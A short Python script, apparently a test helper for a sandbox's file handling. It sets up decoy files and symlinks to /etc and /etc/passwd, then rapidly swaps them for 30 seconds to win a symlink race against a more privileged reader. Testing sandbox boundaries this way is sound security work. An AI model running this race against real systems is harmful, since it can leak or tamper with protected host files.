"""Swaps a file, and a folder above a file, with links to what only process 1's system holds, as fast as it can."""

import os
import time

os.chdir("/workspace/out")
os.makedirs("real")
with open("real/passwd", "w") as file:
    file.write("honest")
with open("file.txt", "w") as file:
    file.write("honest")
os.symlink("/etc", "away")
os.symlink("/etc/passwd", "passwd")
print("CHECK swapping OK", flush=True)
until = time.monotonic() + 30
while time.monotonic() < until:
    os.rename("real", "folder")
    os.rename("folder", "real")
    os.rename("away", "folder")
    os.rename("folder", "away")
    os.rename("file.txt", "file")
    os.rename("file", "file.txt")
    os.rename("passwd", "file")
    os.rename("file", "passwd")
